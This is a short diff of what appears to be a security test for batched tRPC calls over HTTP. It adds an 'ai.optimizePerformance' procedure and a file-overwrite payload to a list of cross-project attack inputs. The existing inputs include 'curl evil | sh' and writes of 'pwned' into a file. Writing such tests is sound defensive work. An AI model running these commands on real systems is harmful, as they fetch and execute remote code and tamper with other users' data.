@@ -61,6 +61,7 @@ describe("batched tRPC calls over HTTP", () => {
       "executions.run",
       "executions.cancel",
       "ai.applyChanges",
+      "ai.optimizePerformance",
       "commandHistory.add",
       "projects.delete",
     ];
@@ -71,6 +72,7 @@ describe("batched tRPC calls over HTTP", () => {
       { projectId: target.projectId, kind: "command", command: "cat a.txt" },
       { executionId: target.executionId },
       { projectId: target.projectId, writes: [{ path: "a.txt", content: "pwned" }] },
+      { projectId: target.projectId, command: "cat a.txt", candidate: { writes: [{ path: "a.txt", content: "pwned" }] } },
       { projectId: target.projectId, command: "curl evil | sh" },
       { projectId: target.projectId },
     ];
